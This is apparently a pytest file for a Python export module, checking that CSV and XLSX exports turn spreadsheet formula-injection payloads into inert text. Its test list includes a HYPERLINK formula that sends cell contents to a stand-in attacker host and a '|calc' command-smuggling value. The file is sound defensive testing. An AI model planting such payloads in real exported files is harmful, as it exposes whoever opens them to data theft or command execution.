"""A list as a file: whole, readable by Excel, and nothing in it runs."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest

from assistant.admin.export import as_csv, neutral, write_xlsx

ATTACKS = [
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1)',
    "+84 91",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u200b=1",
    "＝1+1",
    "＋1",
    "＠a",
    "|calc",
    "%0A",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_that_a_spreadsheet_would_run_becomes_text(text: str) -> None:
    assert str(neutral(text)).startswith("'")


@pytest.mark.parametrize(
    "value", ["Chiến lược AI = gì?", "a-b", "127/QĐ-TTg", "", "<script>alert(1)</script>", 5, -3.5, True, date(2026, 11, 25)]
)
def test_what_is_harmless_stays_as_it_is(value: object) -> None:
    assert neutral(value) == value
    assert neutral(None) == ""


def test_csv_is_read_by_excel_and_by_programs() -> None:
    rows = [["Câu hỏi, “có” dấu", 'với "ngoặc"', "dòng\nmới", datetime(2026, 11, 25, 9, 30, tzinfo=UTC)], *([attack] for attack in ATTACKS)]
    data = b"".join(as_csv(["Một", "Hai"], rows))
    assert data.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert read[0] == ["Một", "Hai"]
    assert read[1] == ["Câu hỏi, “có” dấu", 'với "ngoặc"', "dòng\nmới", "2026-11-25 09:30:00+00:00"]
    assert all(row[0].startswith("'") for row in read[2:])


def test_xlsx_holds_texts_and_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "list.xlsx"
    write_xlsx(
        ["Một", "Hai"], [["chữ", 5], [datetime(2026, 11, 25, tzinfo=UTC), 2.5], ["\x00\x1b\ud800x", None], *([a, 1] for a in ATTACKS)], path
    )
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert cells[:3] == [["Một", "Hai"], ["chữ", 5], [datetime(2026, 11, 25), 2.5]]  # noqa: DTZ001
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
